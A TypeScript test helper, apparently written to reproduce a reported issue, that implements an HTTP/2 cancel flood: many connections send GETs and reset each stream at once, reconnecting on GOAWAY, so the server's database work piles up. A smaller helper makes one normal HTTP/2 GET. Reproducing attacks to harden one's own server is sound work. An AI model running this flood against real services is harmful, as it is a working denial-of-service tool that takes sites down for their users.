import * as http2 from "node:http2"

/**
 * The attack of issue 24, item 1: HTTP/2 connections that each send GETs and cancel them at once
 * (RST_STREAM CANCEL), `perTurn` per `setImmediate`, reconnecting when the server sends GOAWAY or
 * closes, for `millis`. Each cancelled request frees its caller's in-flight slot while its database
 * work goes on. Resolves with the number of requests sent.
 */
export const cancelFlood = (
  url: string,
  options: { readonly connections: number; readonly path: string; readonly perTurn: number; readonly millis: number }
) =>
  new Promise<number>((resolve) => {
    const ends = Date.now() + options.millis
    let sent = 0
    const sessions = new Set<http2.ClientHttp2Session>()
    const connect = () => {
      if (Date.now() >= ends) return
      const session = http2.connect(url)
      sessions.add(session)
      session.on("error", () => {})
      session.once("goaway", () => session.destroy())
      session.once("close", () => {
        sessions.delete(session)
        connect()
      })
      const turn = () => {
        if (session.closed || session.destroyed) return
        if (Date.now() >= ends) return session.destroy()
        for (let i = 0; i < options.perTurn; i++) {
          try {
            const stream = session.request({ ":path": options.path }, { endStream: true })
            stream.on("error", () => {})
            stream.close(http2.constants.NGHTTP2_CANCEL)
            sent++
          } catch {
            // The session is going away (too many streams, GOAWAY): it reconnects on close.
            return session.destroy()
          }
        }
        setImmediate(turn)
      }
      session.once("connect", turn)
    }
    for (let i = 0; i < options.connections; i++) connect()
    const done = setInterval(() => {
      if (Date.now() < ends || sessions.size > 0) return
      clearInterval(done)
      resolve(sent)
    }, 50)
  })

/** One HTTP/2 GET: its status and body, or the error that ended the stream. */
export const h2Get = (session: http2.ClientHttp2Session, path: string) =>
  new Promise<{ readonly status: number | undefined; readonly body: string; readonly error?: string }>((resolve) => {
    const stream = session.request({ ":path": path }, { endStream: true })
    let status: number | undefined
    let body = ""
    stream.on("response", (headers) => (status = Number(headers[":status"])))
    stream.setEncoding("utf8")
    stream.on("data", (chunk: string) => (body += chunk))
    stream.on("end", () => resolve({ status, body }))
    stream.on("error", (error) => resolve({ status, body, error: error.message }))
  })
